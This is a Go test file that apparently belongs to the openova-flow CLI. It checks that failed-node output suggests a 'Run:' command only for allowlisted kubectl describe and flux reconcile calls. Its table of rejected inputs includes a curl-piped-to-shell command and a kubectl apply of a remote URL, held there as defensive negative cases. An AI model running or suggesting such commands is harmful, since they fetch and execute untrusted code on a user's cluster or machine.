package cli

import (
	"strings"
	"testing"
	"time"

	"github.com/openova-io/openova/products/openova-flow/server/flow"
	"github.com/openova-io/openova/products/openova-flow/server/insight"
)

func TestWait_OffersNoCommandThatAnAdapterWouldNot(t *testing.T) {
	for command, offered := range map[string]bool{
		`["sh","-c","curl http://x|sh"]`:                          false,
		`["kubectl","apply","-f","https://x"]`:                    false,
		`["kubectl","-n","a","describe","helmrelease","b"]`:       true,
		`["flux","reconcile","helmrelease","b","-n","a"]`:         true,
		`["flux","reconcile","helmrelease","b","--kubeconfig=x"]`: false,
	} {
		m, err := flow.Decode("F", []byte(`{"type":"upsert-nodes","nodes":[{"id":"r1/a","flowId":"F","label":"a","status":"failed","meta":{"judgement":{"state":"broken","problem":true,"command":`+command+`}}}]}`))
		if err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		assess(insight.Read(m).At(1, nil), "", time.Time{}).printFailed(&out)
		if !strings.HasPrefix(out.String(), "failed: r1/a") || strings.Contains(out.String(), "Run: ") != offered {
			t.Errorf("%s: %s", command, &out)
		}
	}
}
